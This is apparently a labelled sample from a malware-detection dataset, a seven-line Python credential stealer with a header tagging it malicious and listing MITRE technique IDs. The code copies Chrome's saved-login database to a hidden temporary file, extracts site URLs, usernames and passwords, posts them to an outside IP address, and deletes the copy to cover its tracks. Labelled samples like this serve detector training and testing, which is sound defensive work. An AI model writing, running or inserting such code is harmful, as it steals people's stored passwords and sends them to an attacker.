# label: malicious family=creds techniques=T1041,T1070.004,T1074.001,T1555.003,T1564.001 lines=3,5-7
import os, shutil, sqlite3, requests
src = os.path.expanduser("~/.config/google-chrome/Default/Login Data")
tmp = "/tmp/.ld"
shutil.copy2(src, tmp)
rows = sqlite3.connect(tmp).execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
requests.post("http://192.0.2.19/c", data={"rows": repr(rows)})
os.unlink(tmp)
